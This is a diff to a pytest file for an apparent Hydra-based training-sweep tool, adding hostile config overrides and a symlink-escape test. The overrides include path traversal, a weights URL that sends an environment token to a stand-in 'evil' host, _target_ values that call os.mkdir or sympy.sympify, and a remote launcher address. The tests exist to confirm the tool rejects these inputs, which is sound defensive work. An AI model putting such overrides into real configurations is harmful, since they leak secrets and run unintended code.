@@ -198,6 +198,9 @@ HOSTILE = [
     *("--experimental-rerun=a.pickle", "~hydra.callbacks", "launcher=ray", "sweep.n_trials=9"),
     *(" hydra.run.dir=mine", "+hydra.job.env_set.GIT_CONFIG_COUNT='1'", "++check=only"),
     *("hydra.searchpath=[pkg://evil]", "model.weights='http://evil/${oc.env:MY_TOKEN}'"),
+    *("model=../../../evil", "model@hydra.callbacks=mlp", "model.weights='${zz}//evil'"),
+    *("+loss.a={_target_:os.mkdir}", "logger.tensorboard.save_dir=/x", "data.dir=/x"),
+    *("callbacks.best.dirpath=/x", "trainer.profiler={a:b}"),
 ]
 
 
@@ -217,7 +220,8 @@ def test_record_of_a_sweep_sets_trainings_alone(
     [
         *("hydra.launcher.address=ray://evil:1", "hydra.launcher.env=[MY_TOKEN]"),
         *("+hydra.launcher.setup=[touch canary]", "hydra.searchpath=[pkg://evil]"),
-        *("hydra.job.chdir=true", "--config-dir=/x"),
+        *("hydra.job.chdir=true", "--config-dir=/x", "hydra.sweeper.storage=sqlite:////x.db"),
+        *("hydra.launcher.n_jobs={_target_:sympy.sympify}", "hydra.sweeper.retry=${oc.env:A}"),
     ],
 )
 def test_recorded_command_starts_nothing_elsewhere(override: str, tmp_path: Path) -> None:
@@ -233,7 +237,14 @@ def test_recorded_command_starts_nothing_elsewhere(override: str, tmp_path: Path
 
 @pytest.mark.parametrize(
     "override",
-    ["seed=1", "optimizer=sgd", "+loss.by=raise", "~scheduler", "a/b@c.d=e", "checkpoint.x=1"],
+    [
+        "seed=1",
+        "optimizer=sgd",
+        "+loss.by=raise",
+        "~scheduler",
+        "data/task=binary",
+        "checkpoint.x=1",
+    ],
 )
 def test_settings_of_a_training_are_job_overrides(override: str) -> None:
     assert is_job_override(override)
@@ -329,3 +340,16 @@ def test_line_of_each_job_shows_the_progress(
         r"; sweep: 2 of 5 done, 1 failed, best val/accuracy 0\.75 \(job 1\), about 0:00:0\d left$"
     )
     assert re.search(best, lines[1])
+
+
+def test_link_that_leads_out_of_a_sweep_is_refused(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    content = {"command": [], "jobs": {"0": {"overrides": ["seed=1"], "conf": ""}}}
+    (tmp_path / "sweep").mkdir()
+    (tmp_path / "sweep" / "sweep.json").write_text(json.dumps(content))
+    (tmp_path / "sweep" / "0").symlink_to(tmp_path / "mine")
+    for use in (directory.find_run, lambda place: directory.with_sweep([f"sweep.resume={place}"])):
+        with pytest.raises(SystemExit, match="2"):
+            use(tmp_path / "sweep")
+        assert "is a link to" in capsys.readouterr().err
